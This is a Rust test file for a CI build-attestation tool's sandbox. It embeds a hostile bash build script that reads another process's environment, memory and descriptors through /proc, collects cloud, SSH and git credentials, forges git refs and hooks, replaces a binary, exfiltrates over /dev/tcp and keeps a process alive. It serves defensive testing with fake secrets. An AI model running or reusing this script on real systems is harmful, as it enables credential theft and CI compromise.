//! A hostile build against `agentgate gate`. The build and test commands are one script written
//! to escape: find the gate through /proc, read its environment, command line, memory and open
//! descriptors, read the key file and the usual secret files, write to the caller's repository
//! and outside the checkout, replace the gate binary, connect to a listener on 127.0.0.1 and
//! leave a process running. The gate runs as CI runs it: fake CI tokens and OIDC request
//! credentials in its environment, an encrypted key whose passphrase is in the environment,
//! the key file on the command line and open on two inherited descriptors (7 and 12), secrets
//! in HOME. In the default mode every attempt must fail; the same script under
//! `--danger-no-sandbox` must succeed, which shows that the attempts are real. The script prints
//! what it reaches: the logs are its only way out of the sandbox, and the test looks for the
//! secrets there (and in everything else the gate writes) and for the effects outside.

use std::io::Read as _;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::Duration;

use crate::common::Sandbox;

const HOSTILE_SH: &str = r#"#!/bin/bash
# Usage: hostile.sh PHASE KEY HOME GATE_BIN PORT TAG. Everything it reaches goes to stdout.
phase=$1 key=$2 home=$3 gatebin=$4 port=$5 tag=$6
say() { printf 'HOSTILE %s\n' "$*"; }
# Print the secrets in a file, never the whole file: what matters is whether it was reached.
grab() {
  local data
  data=$(head -c 1048576 "$1" 2>/dev/null | tr '\0' '\n')
  if [ -z "$data" ]; then say "nothing-from $1"; return; fi
  say "read $1"
  printf '%s\n' "$data" | grep -aoE 's3cr3t-[A-Za-z]+-[A-Za-z0-9]+' | sort -u | sed 's/^/HOSTILE found: /'
  printf '%s\n' "$data" | grep -a -A1 -- '-----BEGIN [A-Z ]*PRIVATE KEY-----' | sed 's/^/HOSTILE found: /'
}
attempt() { if "$@" >/dev/null 2>&1; then say "succeeded: $*"; else say "failed: $*"; fi; }

# 1. Find the gate by its command line, and look at it, at our parent and at PID 1.
say "visible processes: $(ls -d /proc/[0-9]* | wc -l)"
targets="$PPID 1"
for p in /proc/[0-9]*; do
  cmd=$(tr '\0' ' ' < "$p/cmdline" 2>/dev/null)
  case "$cmd" in *"$tag"*" gate "*"--key"*) say "gate-found ${p#/proc/}"; targets="$targets ${p#/proc/}";; esac
done
for pid in $(printf '%s\n' $targets | sort -u); do
  [ "$pid" = "$$" ] && continue
  say "process $pid: $(tr '\0' ' ' < /proc/$pid/cmdline 2>/dev/null | head -c 300)"
  grab /proc/$pid/environ
  grab /proc/$pid/cmdline
  for fd in /proc/$pid/fd/*; do
    t=$(readlink "$fd" 2>/dev/null) || continue
    say "fd $fd -> $t"
    [ -f "$fd" ] && grab "$fd"
  done
  # Its memory: the writable mappings hold the environment, the heap and the stacks.
  while read -r range perms _ _ _ _; do
    case "$perms" in rw*) ;; *) continue;; esac
    start=$((16#${range%-*})) end=$((16#${range#*-}))
    [ $((end - start)) -gt $((64 << 20)) ] && continue
    dd if=/proc/$pid/mem bs=4096 skip=$((start / 4096)) count=$(((end - start) / 4096)) status=none 2>/dev/null \
      | grep -aoE 's3cr3t-[A-Za-z]+-[A-Za-z0-9]+' | sort -u | sed "s/^/HOSTILE memory $pid: /"
  done < <(cat /proc/$pid/maps 2>/dev/null)
done
# Descriptors we were given beyond 0, 1 and 2, as a child inherits them (listed into a file:
# a pipe or a process substitution would be a descriptor of its own).
ls -l /proc/self/fd > own-fds.txt 2>/dev/null
while read -r line; do
  n=${line%% ->*} n=${n##* } t=${line#*-> }
  case "$n" in 0|1|2) continue;; esac
  case "$t" in /proc/*/fd) continue;; esac
  say "own-fd $n -> $t"
  [ -f "/proc/$$/fd/$n" ] && grab "/proc/$$/fd/$n"
done < <(grep -- '->' own-fds.txt)

# 2. The key file and the usual places of CI and cloud credentials.
for f in "$key" "$home/.docker/config.json" "$home/.git-credentials" "$home/.aws/credentials" \
         "$home/.config/gcloud/application_default_credentials.json" "$home/.ssh/id_ed25519" \
         /run/secrets/* /var/run/secrets/*; do
  grab "$f"
done

# 3. Writes: the caller's repository (found through the checkout's alternates), outside the
# checkout, the gate binary (renamed over: a running binary cannot be written in place).
objects=$(head -n1 .git/objects/info/alternates 2>/dev/null)
caller=${objects%/objects}
say "caller-repository $caller"
attempt sh -c "echo evil > '$objects/evil-$tag'"
attempt git --git-dir="$caller" update-ref "refs/heads/evil-$tag" HEAD
attempt git --git-dir="$caller" -c user.name=x -c user.email=x@example.com notes --ref agentgate add -f -m forged HEAD
attempt git --git-dir="$caller" config core.hooksPath "/tmp/evil-hooks-$tag"
attempt sh -c "echo pwned > '$home/pwned-$tag'"
attempt sh -c "echo pwned > '$(dirname "$gatebin")/pwned-$tag'"
attempt sh -c "cp /bin/true '$gatebin.new-$tag' && mv -f '$gatebin.new-$tag' '$gatebin'"

# 4. The network.
attempt bash -c "exec 3<>/dev/tcp/127.0.0.1/$port && echo exfiltrated-$tag >&3"

# 5. A process that outlives the step, writing into the checkout while it lives.
if [ "$phase" = build ]; then
  setsid sh -c 'while :; do date +%s%N >> linger.log; sleep 0.05; done' "linger-$tag" \
    </dev/null >/dev/null 2>&1 &
  sleep 0.2
  echo built > app
else
  a=$(cat linger.log 2>/dev/null | wc -l); sleep 0.5; b=$(cat linger.log 2>/dev/null | wc -l)
  if [ "$b" -gt "$a" ]; then say "linger-alive"; else say "linger-dead"; fi
  printf '<testsuite><testcase classname="hostile" name="ran"/></testsuite>\n' > junit.xml
fi

# 6. Last, as it tears mounts down: unmount whatever hides the key, in a mount namespace of
# our own (that takes capabilities) and in a nested user namespace (where they are locked).
# Only where the key is hidden: with nothing to unmask there is nothing to try.
if [ ! -s "$key" ] && command -v unshare >/dev/null; then
  unmask='tac /proc/self/mounts | while read -r _ m _; do [ "$m" = / ] || umount -l "$m"; done; head -c 200 "$0"'
  for how in -m -rm; do
    unshare $how sh -c "$unmask" "$key" 2>/dev/null | grep -a -- '-----BEGIN' \
      | sed "s/^/HOSTILE unmasked ($how): /"
  done
fi
exit 0
"#;

/// One hostile run's world: the repository, the secrets, the gate binary copy, the listener.
struct Hostile {
    sb: Sandbox,
    tag: String,
    key: PathBuf,
    /// A copy of the gate binary in the target directory (visible to the build, read-only).
    bin_dir: tempfile::TempDir,
    listener: TcpListener,
    /// (what, value) of every secret the build must not reach.
    env_secrets: Vec<(&'static str, String)>,
    file_secrets: Vec<(&'static str, String)>,
    /// The key file's first base64 line.
    key_line: String,
}

/// Kills, on drop, the processes a run left behind (only --danger-no-sandbox leaves any).
struct Lingering(String);

impl Lingering {
    fn pids(&self) -> Vec<String> {
        let needle = format!("linger-{}", self.0);
        let mut pids = Vec::new();
        for e in std::fs::read_dir("/proc").unwrap().flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            if name.parse::<u32>().is_err() {
                continue;
            }
            let cmdline = std::fs::read(e.path().join("cmdline")).unwrap_or_default();
            if String::from_utf8_lossy(&cmdline).contains(&needle) {
                pids.push(name);
            }
        }
        pids
    }
}

impl Drop for Lingering {
    fn drop(&mut self) {
        for pid in self.pids() {
            let _ = Command::new("kill").args(["-9", &pid]).status();
        }
    }
}

fn sha256(path: &Path) -> String {
    use sha2::Digest as _;
    hex::encode(sha2::Sha256::digest(std::fs::read(path).unwrap()))
}

impl Hostile {
    fn new() -> Self {
        let sb = Sandbox::new();
        let tag: String = sb
            .dir
            .path()
            .file_name()
            .unwrap()
            .to_string_lossy()
            .chars()
            .filter(char::is_ascii_alphanumeric)
            .collect();
        let script = sb.path("repo/hostile.sh");
        std::fs::write(&script, HOSTILE_SH).unwrap();
        use std::os::unix::fs::PermissionsExt as _;
        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
        sb.git(&["add", "hostile.sh"]);
        sb.git(&["commit", "-q", "-m", "a build script"]);

        let secret = |what: &str| format!("s3cr3t-{what}-{tag}");
        let env_secrets = vec![
            ("passphrase", secret("passphrase")),
            ("ACTIONS_ID_TOKEN_REQUEST_TOKEN", secret("oidcRequestToken")),
            ("ACTIONS_ID_TOKEN_REQUEST_URL", secret("oidcRequestUrl")),
            ("GITHUB_TOKEN", secret("githubToken")),
            ("CI_JOB_TOKEN", secret("jobToken")),
            ("SIGSTORE_ID_TOKEN", secret("sigstoreToken")),
            ("AWS_SECRET_ACCESS_KEY", secret("awsKey")),
        ];
        let home = sb.dir.path();
        let file_secrets = vec![
            (".docker/config.json", secret("docker")),
            (".git-credentials", secret("gitCredentials")),
            (".aws/credentials", secret("awsFile")),
            (
                ".config/gcloud/application_default_credentials.json",
                secret("gcloud"),
            ),
            (".ssh/id_ed25519", secret("ssh")),
        ];
        for (file, value) in &file_secrets {
            let path = home.join(file);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(&path, format!("{{\"auth\": \"{value}\"}}\n")).unwrap();
        }
        let pass = env_secrets[0].1.clone();
        sb.keygen(
            "gate",
            &["--password-env", "GATE_PW"],
            &[("GATE_PW", &pass)],
        );
        let key = sb.path("gate.key");
        let pem = std::fs::read_to_string(&key).unwrap();
        let key_line = pem.lines().nth(1).unwrap().to_string();

        let bin_dir = tempfile::Builder::new()
            .prefix(&format!("hostile-{tag}-"))
            .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
            .unwrap();
        std::fs::copy(crate::common::BIN, bin_dir.path().join("agentgate")).unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Hostile {
            sb,
            tag,
            key,
            bin_dir,
            listener,
            env_secrets,
            file_secrets,
            key_line,
        }
    }

    fn gate_bin(&self) -> PathBuf {
        self.bin_dir.path().join("agentgate")
    }

    /// Run the gate as CI would, the key file open on inherited descriptors 7 and 12.
    fn gate(&self, extra: &[&str]) -> Output {
        let port = self.listener.local_addr().unwrap().port().to_string();
        let home = self.sb.dir.path().display().to_string();
        let key = self.key.display().to_string();
        let bin = self.gate_bin().display().to_string();
        let script = |phase: &str| {
            format!(
                "./hostile.sh {phase} {key} {home} {bin} {port} {}",
                self.tag
            )
        };
        let (build, test) = (script("build"), script("test"));
        let mut cmd = Command::new("bash");
        cmd.args(["-c", r#"exec 7<"$0" 12<"$0"; exec "$@""#, &key, &bin])
            .args([
                "gate",
                "--key",
                &key,
                "--password-env",
                "GATE_PW",
                "--repo",
                "repo",
                "--build",
                &build,
                "--test",
                &test,
                "--artifact",
                "app",
                "--junit",
                "junit.xml",
                "--out",
                "att",
                "--json",
            ])
            .args(extra)
            .current_dir(self.sb.dir.path())
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("GITHUB_ACTIONS", "true")
            .env("GITHUB_REPOSITORY", "acme/app");
        crate::common::isolate(&mut cmd, self.sb.dir.path());
        for (name, value) in &self.env_secrets {
            let name = if *name == "passphrase" {
                "GATE_PW"
            } else {
                name
            };
            cmd.env(name, value);
        }
        cmd.output().unwrap()
    }

    /// Everything the gate printed or wrote where a CI job would publish it.
    fn published(&self, out: &Output) -> String {
        let mut all = String::from_utf8_lossy(&out.stdout).into_owned();
        all.push_str(&String::from_utf8_lossy(&out.stderr));
        if let Ok(dir) = std::fs::read_dir(self.sb.path("att")) {
            for e in dir.flatten() {
                all.push_str(&String::from_utf8_lossy(
                    &std::fs::read(e.path()).unwrap_or_default(),
                ));
            }
        }
        all
    }

    /// The script's reports (HOSTILE lines) of one step's stdout log.
    fn reports(&self, step: &str) -> Vec<String> {
        std::fs::read_to_string(self.sb.path(&format!("att/{step}.stdout.log")))
            .unwrap_or_default()
            .lines()
            .filter_map(|l| l.strip_prefix("HOSTILE "))
            .map(str::to_string)
            .collect()
    }

    fn repo_state(&self) -> String {
        let refs = self.sb.git(&["for-each-ref"]);
        let config = std::fs::read_to_string(self.sb.path("repo/.git/config")).unwrap();
        let objects: Vec<String> = std::fs::read_dir(self.sb.path("repo/.git/objects"))
            .unwrap()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .collect();
        format!("{refs}\n{config}\n{objects:?}")
    }

    fn connection(&self) -> Option<String> {
        // The connection (if any) was made and closed during the run: it waits in the backlog.
        let (mut stream, _) = self.listener.accept().ok()?;
        stream.set_nonblocking(false).ok()?;
        stream.set_read_timeout(Some(Duration::from_secs(2))).ok()?;
        let mut got = String::new();
        let _ = stream.read_to_string(&mut got);
        Some(got)
    }
}

fn text(out: &Output) -> String {
    format!(
        "exit {:?}\nstderr:\n{}",
        out.status.code(),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// Whether this process may read another process's memory (root, or no Yama restriction).
fn may_read_memory_of_others() -> bool {
    let scope = std::fs::read_to_string("/proc/sys/kernel/yama/ptrace_scope")
        .map(|s| s.trim().parse::<u32>().unwrap_or(3))
        .unwrap_or(0);
    let root = Command::new("id")
        .arg("-u")
        .output()
        .is_ok_and(|o| String::from_utf8_lossy(&o.stdout).trim() == "0");
    scope == 0 || (root && scope < 3)
}

#[test]
fn hostile_build_reaches_nothing_in_the_default_sandbox() {
    let h = Hostile::new();
    let lingering = Lingering(h.tag.clone());
    let repo_before = h.repo_state();
    let bin_before = sha256(&h.gate_bin());
    let out = h.gate(&[]);
    // The build and the tests "succeeded": the attestation is honest, and nothing leaked.
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let summary: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(summary["sandbox"], "bwrap");
    assert_eq!(summary["testResult"], "PASSED");

    let build = h.reports("build");
    let test = h.reports("test");
    assert!(
        build.iter().any(|r| r.starts_with("visible processes")),
        "{build:?}"
    );
    let published = h.published(&out);
    for (what, value) in h.env_secrets.iter().chain(&h.file_secrets) {
        assert!(
            !published.contains(value.as_str()),
            "{what} leaked: {build:?}"
        );
    }
    assert!(
        !published.contains(&h.key_line),
        "the key leaked: {build:?}"
    );
    for reports in [&build, &test] {
        for r in reports.iter() {
            // Not the gate, nor a descriptor of the key, nor the key unmasked.
            assert!(!r.starts_with("gate-found"), "{r}");
            assert!(!r.starts_with("memory"), "{r}");
            assert!(!r.starts_with("found"), "{r}");
            assert!(!r.starts_with("unmasked"), "{r}");
            assert!(!r.starts_with("own-fd"), "an inherited descriptor: {r}");
            assert!(!r.starts_with("succeeded"), "{r}");
        }
        // Each write and the connection was tried, and failed.
        assert_eq!(
            reports.iter().filter(|r| r.starts_with("failed:")).count(),
            8,
            "{reports:?}"
        );
    }
    // The build's leftover process died with its step, before the tests (and so before the
    // key was loaded), and nothing of it is left now.
    assert!(test.iter().any(|r| r == "linger-dead"), "{test:?}");
    assert_eq!(lingering.pids(), Vec::<String>::new());
    // Nothing changed outside: repository, gate binary, files, network.
    assert_eq!(h.repo_state(), repo_before);
    assert_eq!(sha256(&h.gate_bin()), bin_before);
    assert!(!h.sb.path(&format!("pwned-{}", h.tag)).exists());
    assert!(!h.bin_dir.path().join(format!("pwned-{}", h.tag)).exists());
    assert_eq!(h.connection(), None);
    // And the provenance says how the build was isolated.
    let bundle: serde_json::Value =
        serde_json::from_slice(&std::fs::read(h.sb.path("att/provenance.sigstore.json")).unwrap())
            .unwrap();
    use base64::Engine as _;
    let st: serde_json::Value = serde_json::from_slice(
        &crate::common::b64()
            .decode(bundle["dsseEnvelope"]["payload"].as_str().unwrap())
            .unwrap(),
    )
    .unwrap();
    let def = &st["predicate"]["buildDefinition"];
    assert_eq!(def["externalParameters"]["sandbox"], "bwrap");
    let hidden = def["internalParameters"]["sandbox"]["hidden"].to_string();
    assert!(
        hidden.contains("\"/run\"") && hidden.contains("\"/home\""),
        "{hidden}"
    );
}

#[test]
fn the_same_build_reaches_the_secrets_with_danger_no_sandbox() {
    let h = Hostile::new();
    let lingering = Lingering(h.tag.clone());
    let repo_before = h.repo_state();
    let bin_before = sha256(&h.gate_bin());
    let out = h.gate(&["--danger-no-sandbox"]);
    let left_behind = lingering.pids();
    drop(lingering);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let summary: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(summary["sandbox"], "none");

    let build = h.reports("build");
    let test = h.reports("test");
    let said = |prefix: &str| build.iter().any(|r| r.starts_with(prefix));
    assert!(said("gate-found"), "{build:?}");
    // The gate's environment: every CI token, the OIDC request credentials, the passphrase.
    for (what, value) in &h.env_secrets {
        assert!(
            build.iter().any(|r| r == &format!("found: {value}")),
            "{what} not reached: {build:?}"
        );
    }
    // The secret files in HOME and the key file (by path and through the gate's descriptors).
    for (what, value) in &h.file_secrets {
        assert!(
            build.iter().any(|r| r == &format!("found: {value}")),
            "{what}"
        );
    }
    assert!(build.iter().any(|r| r == &format!("found: {}", h.key_line)));
    assert!(
        build.iter().any(|r| r.starts_with("fd /proc/")
            && r.contains("/fd/7 -> ")
            && r.ends_with("gate.key")),
        "{build:?}"
    );
    if may_read_memory_of_others() {
        let passphrase = &h.env_secrets[0].1;
        assert!(
            build
                .iter()
                .any(|r| r.starts_with("memory ") && r.ends_with(passphrase.as_str())),
            "the gate's memory was not read: {build:?}"
        );
    }
    // Every write succeeded, and the connection was made.
    assert_eq!(
        build.iter().filter(|r| r.starts_with("succeeded:")).count(),
        8,
        "{build:?}"
    );
    assert_ne!(h.repo_state(), repo_before);
    assert!(h.sb.rev(&format!("refs/heads/evil-{}", h.tag)).len() == 40);
    assert_ne!(sha256(&h.gate_bin()), bin_before);
    assert!(h.sb.path(&format!("pwned-{}", h.tag)).exists());
    assert!(h.bin_dir.path().join(format!("pwned-{}", h.tag)).exists());
    assert_eq!(
        h.connection().as_deref(),
        Some(&*format!("exfiltrated-{}\n", h.tag))
    );
    // The build's process outlived it: through the tests and the signing, and after the gate.
    assert!(test.iter().any(|r| r == "linger-alive"), "{test:?}");
    assert!(!left_behind.is_empty(), "no process was left behind");
    // The provenance says it ran without isolation.
    let published = h.published(&out);
    assert!(published.contains("--danger-no-sandbox"));
}

/// The gate reads the artifacts and the JUnit report itself, outside the sandbox: symlinks the
/// build leaves there must not lead it to the key or to its own environment.
#[test]
fn symlinks_from_the_build_do_not_lead_the_gate_outside_the_checkout() {
    let h = Hostile::new();
    let key = h.key.display().to_string();
    let run = |build: &str, test: &str| -> serde_json::Value {
        let out = h.sb.run(
            &[
                "gate",
                "--key",
                &key,
                "--password-env",
                "GATE_PW",
                "--repo",
                "repo",
                "--shell",
                "--build",
                build,
                "--test",
                test,
                "--artifact",
                "app",
                "--junit",
                "junit.xml",
                "--out",
                "att",
                "--json",
            ],
            &[
                ("GATE_PW", &h.env_secrets[0].1),
                ("CI_JOB_TOKEN", &h.env_secrets[4].1),
            ],
        );
        assert_eq!(out.status.code(), Some(1), "{}", text(&out));
        let published = h.published(&out);
        assert!(!published.contains(&h.key_line));
        assert!(!published.contains(&h.env_secrets[4].1));
        assert!(!h.sb.path("att/junit.xml").exists());
        serde_json::from_slice(&out.stdout).unwrap()
    };
    let v = run(&format!("ln -s {key} app"), "true");
    assert_eq!(v["code"], "artifact-missing");
    assert!(v["error"]
        .as_str()
        .unwrap()
        .contains("points outside the checkout"));
    let v = run("echo built > app", "ln -s /proc/self/environ junit.xml");
    assert_eq!(v["code"], "junit-missing");
    let v = run("echo built > app", &format!("ln -s {key} junit.xml"));
    assert_eq!(v["code"], "junit-missing");
    assert!(v["error"]
        .as_str()
        .unwrap()
        .contains("points outside the checkout"));
}

/// A keyless gate in GitHub Actions requests its identity token with the job's request
/// credentials only after build and tests: the request arrives after the test step's log was
/// closed, and (by the tests above) the credentials themselves never reach the build.
#[test]
fn keyless_gate_requests_its_token_only_after_the_tests() {
    use std::io::Write as _;
    use std::time::{Instant, SystemTime};
    let sb = Sandbox::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    let server = std::thread::spawn(move || -> Option<(SystemTime, String)> {
        let deadline = Instant::now() + Duration::from_secs(60);
        while Instant::now() < deadline {
            match listener.accept() {
                Ok((mut s, _)) => {
                    let at = SystemTime::now();
                    s.set_nonblocking(false).ok()?;
                    s.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
                    let mut buf = [0u8; 4096];
                    let n = s.read(&mut buf).unwrap_or(0);
                    let _ = s.write_all(b"HTTP/1.1 500 Internal Server Error\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
                    return Some((at, String::from_utf8_lossy(&buf[..n]).into_owned()));
                }
                Err(_) => std::thread::sleep(Duration::from_millis(20)),
            }
        }
        None
    });
    let request_token = "s3cr3t-requestToken-keyless";
    let out = sb.run(
        &[
            "gate",
            "--keyless",
            "--fulcio-url",
            "http://127.0.0.1:9",
            "--rekor-url",
            "http://127.0.0.1:9",
            "--repo",
            "repo",
            "--shell",
            "--build",
            "sleep 1; cp a.txt app",
            "--test",
            "sleep 1; test -s app",
            "--artifact",
            "app",
            "--out",
            "att",
        ],
        &[
            ("GITHUB_ACTIONS", "true"),
            (
                "ACTIONS_ID_TOKEN_REQUEST_URL",
                &format!("http://127.0.0.1:{port}/token?api-version=2.0"),
            ),
            ("ACTIONS_ID_TOKEN_REQUEST_TOKEN", request_token),
        ],
    );
    // The token service answered 500: nothing signed, a usage/environment error.
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    let (requested_at, request) = server.join().unwrap().expect("no token request");
    assert!(request.contains(request_token), "{request}");
    let tests_ended = std::fs::metadata(sb.path("att/test.stdout.log"))
        .unwrap()
        .modified()
        .unwrap();
    assert!(
        requested_at >= tests_ended,
        "the token was requested before the tests ended"
    );
    assert!(!sb.path("att/provenance.sigstore.json").exists());
}
